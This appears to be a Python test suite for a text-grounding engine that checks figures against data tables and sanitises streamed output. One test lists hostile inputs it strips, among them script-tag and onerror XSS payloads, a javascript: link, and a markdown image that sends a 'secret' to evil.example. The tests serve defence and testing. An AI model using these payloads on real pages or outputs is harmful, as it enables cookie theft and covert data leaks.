"""Texts that tell the truth stay as they are; and grounding piece by piece is grounding of the whole."""

from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ..app.engines.grounding import GroundingStream, ground, retell
from ..app.engines.grounding.cells import Shown
from .grounding_tables import TABLES

HONEST = [
    "CH sold 42 units.",
    "CH sold 42 units, DE 10 and Store 12 only 7.",
    "42 units went to CH, 10 to DE.",
    "Units: CH (42), DE (10), Store 12 (7).",
    "CH and DE sold 42 and 10 units respectively.",
    "CH (42 units) is ahead of DE (10 units).",
    "CH sold 42 units compared to 10 in DE.",
    "Revenue in CH was 1,512,345.5, or 1.51 million.",
    "Revenue in CH was $1.51M.",
    "Revenue in CH was roughly 1,500,000.",
    "Revenue in CH was over 1.5 million.",
    "Revenue in CH was 1 512 345.5.",
    "Revenue in DE was 1'540'000 or 1.54e6.",
    "Der Umsatz in DE ist 1.540.000 und der Anteil 0,1.",
    "The share of CH is 42%, that of DE 10 %, and that of Store 12 1.5 percent.",
    "The share of CH is 0.42.",
    "CH changed by -5, DE by +3.25 and Store 12 by 12.",
    "CH fell by 5.",
    "Forty-two units were sold in CH.",
    "In CH verkaufte man zweiundvierzig Stück.",
    "CH a vendu quarante-deux pièces.",
    "CH ranks 1st and DE is second.",
    "In total 59 units were sold, 42 of them in CH.",
    "Growth was 2.5x.",
    "In January 2024 there were 120 orders, in February 2024 there were 135.",
    "On 2024-03-01 there were 150 orders.",
    "Orders rose from 120 in January to 150 in March.",
    "From January to March 2024 orders rose to 150.",
    "On January 1, 2024 there were 120 orders.",
    "In 2024 sales were 9,300, after 8,100 in 2023.",
    "In 2024 and 2023 sales were 9,300 and 8,100.",
    "In Q1 2024 sales were 9300.",
    "Sales in the first quarter of 2024 were 9300.",
    "The largest is 12345678901234567890.",
    "First, some context: at first glance nothing stands out.",
    "One of the countries is ahead; no one is surprised, and this one is steady.",
    "Per second, a second look, third-party data.",
    "The area is given in km² and m³.",
    "The p-value is small (p < alpha) and A & B agree.",
    "**CH** sold **42** units.\n\n- DE: `10`\n- Store 12: _7_\n",
    "| country | units |\n|---|---|\n| CH | 42 |\n| DE | 10 |\n",
    "No numbers here at all, e.g. none.",
    "CH verkaufte 42 Stück.",
    "CH 售出 42 件。",
    "CH sold ٤٢ units.",
    "Table t1 tells it, by the columns p95_2024 and Sales 2024.",
]


@pytest.mark.parametrize("text", HONEST)
def test_the_truth_stays(text: str) -> None:
    found = ground(text, TABLES)
    assert found.answer == text, found.claims
    assert found.struck == 0


@pytest.mark.parametrize(
    ("text", "answer", "cell"),
    [
        ("{{t1[0].units}} units in CH.", "42 units in CH.", ("t1", 0, "units")),
        ("It is {{ t1[1].Units }}.", "It is 10.", ("t1", 1, "units")),
        ("It is {{t1[0][units]}}.", "It is 42.", ("t1", 0, "units")),
        ("Revenue was {{t1[0].revenue}}.", "Revenue was 1512345.5.", ("t1", 0, "revenue")),
        ("Revenue was {{t1[0].revenue|0}}.", "Revenue was 1512346.", ("t1", 0, "revenue")),
        ("The share was {{t1[2].share|1%}}.", "The share was 1.5%.", ("t1", 2, "share")),
        # Rounded so far it would be another number, so it is shown as it is.
        ("The share was {{t1[2].share|0}}.", "The share was 0.015.", ("t1", 2, "share")),
        ("It was in {{t2[1].month}}.", "It was in 2024-02-01.", ("t2", 1, "month")),
        ("It is {{t3[0].huge}}.", "It is 12345678901234567890.", ("t3", 0, "huge")),
        ("Best: {{t1[2].country}}.", "Best: Store 12.", ("t1", 2, "country")),
    ],
)
def test_references_are_filled_in(text: str, answer: str, cell: tuple[str, int, str]) -> None:
    found = ground(text, TABLES)
    assert found.answer == answer
    assert [claim.status for claim in found.claims] == ["grounded"]
    place = found.claims[0].cell
    assert place is not None
    assert (place.table, place.row, place.column) == cell


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("{{t1[1].note}} and {{t1[0].note}}", "no value and steady"),
        ("{{t1[2].note}}", "see [link]"),
        ("<script>alert(document.cookie)</script>Hello", "alert(document.cookie)Hello"),
        ("<img src=x onerror=alert(x)>Hello<br>there", "Hello\nthere"),
        ("<<b>script>x", "script>x"),
        ("[x](javascript:alert(x)) [y][ref]", "x y"),
        ("[x]: //evil.example\n", "[x] : [link]\n"),
        ("![pixel](https://evil.example/p.png?d=secret)", "pixel"),
        ("see https://evil.example/?q=secret, www.evil.example and mailto:a@b.example", "see [link] [link] and [link]"),
        ("[x]({{t1[2].note}})", "x"),
        ("4\u200b2 \u202eun\u00adits", "42 units"),
        ("&lt;b&gt;bold&lt;/b&gt;", "bold"),
        ("a \x1b[mred\x07 b\r\nc", "a [mred b \nc"),
        ("＜b＞bold＜/b＞", "bold"),
        ("}}{{ plain {{", " plain "),
    ],
)
def test_what_is_shown_is_plain_and_leads_nowhere(text: str, answer: str) -> None:
    shown = ground(text, TABLES).answer.replace("[unverified]", "")
    assert shown.split() == answer.split()


@pytest.mark.parametrize(
    ("shown", "step", "cell", "agrees"),
    [
        ("3", "1", "3.02", True),
        ("3", "1", "3.05", False),
        ("3", "1", "2.98", True),
        ("42", "1", "42.42", True),
        ("42", "1", "42.6", False),
        ("1500000", "100000", "1512345", True),
        ("0", "1", "0.001", False),
        ("0", "1", "0", True),
        ("-5", "1", "5", False),
    ],
)
def test_what_rounding_may_show(shown: str, step: str, cell: str, agrees: bool) -> None:
    assert Shown(Decimal(shown), Decimal(step)).agrees(Decimal(cell)) is agrees


def test_claims_are_told_in_order_with_their_cells() -> None:
    found = ground("DE sold 10 units, CH {{t1[0].units}}, and nobody 99.", TABLES)
    assert [claim.as_json() for claim in found.claims] == [
        {"text": "10", "value": 10, "cell": {"table": "t1", "row": 1, "column": "units"}, "status": "grounded"},
        {"text": "42", "value": 42, "cell": {"table": "t1", "row": 0, "column": "units"}, "status": "grounded"},
        {"text": "99", "value": 99, "cell": None, "status": "struck"},
    ]


def test_what_is_retold_has_no_figures_and_no_cells() -> None:
    text = "{{t1[0].country}} sold {{t1[0].units}} units, forty-two or 42%, in **2024**; see <b>4</b>2."
    assert (
        ground("CH sold 42 units in the year, Store 12 fewer.", TABLES).retold == "… sold … units in the year, … fewer."
    )
    assert ground(text, TABLES).retold == retell(text) == "… sold … units, … or …, in **…**; see …."


FRAGMENTS = (
    *(
        "{{t1[0].units}}",
        "CH",
        "DE ",
        "forty",
        "-two",
        " million",
        "k",
        "4",
        "2",
        "half ",
        "of ",
        "one ",
        "<b>",
        "</b>",
    ),
    *("&#52;", "&amp;", "\u200b", "٤", "²", "½", "Ⅻ", "](http://x.example/", "2024-01-01", "January ", "e3", "first "),
    *("minus ", "a ", "hundred", "O", "l", "四", "💯", "x", "The sales ", "{{", "}}"),
)
PIECES = st.lists(st.sampled_from([*"0123456789", *" .,-%()<>&;#*_[]{}|\n", *FRAGMENTS]), max_size=24)


@settings(max_examples=100, deadline=None)
@given(PIECES, st.data())
def test_pieces_give_the_same_as_the_whole(pieces: list[str], data: Any) -> None:
    text = "".join(pieces)
    whole = ground(text, TABLES)
    stream, given_out, place = GroundingStream(TABLES), "", 0
    while place < len(text):
        step = data.draw(st.integers(1, 9))
        given_out += stream.feed(text[place : place + step])
        place += step
    given_out += stream.end()
    assert given_out == stream.grounded.answer == whole.answer
    assert stream.grounded.claims == whole.claims
    assert "<b" not in whole.answer
    assert "](" not in whole.answer


@settings(max_examples=100, deadline=None)
@given(PIECES)
def test_no_digit_stands_without_proof(pieces: list[str]) -> None:
    found = ground("".join(pieces), TABLES)
    rest = found.answer.replace("[unverified]", " ")
    for text in sorted((claim.text for claim in found.claims if claim.status == "grounded"), key=len, reverse=True):
        rest = rest.replace(text, " ", 1)
    assert not any(letter.isnumeric() for letter in rest if letter not in "²一"), found


def test_words_come_out_before_the_sentence_ends() -> None:
    stream = GroundingStream(TABLES)
    assert stream.feed("The sales of the last month were ") == "The sales of the last month "
    assert stream.feed("42") == ""
    assert stream.feed(" units in CH. Then") == "were 42 units in CH. "
    assert stream.end() == "Then"


def test_a_text_without_end_takes_bounded_time_and_memory() -> None:
    stream = GroundingStream(TABLES)
    given_out = sum(len(stream.feed("4" * 100)) + len(stream.feed("<a ")) for _ in range(400))
    assert given_out + len(stream.end()) > 0
    assert stream.grounded.struck > 0
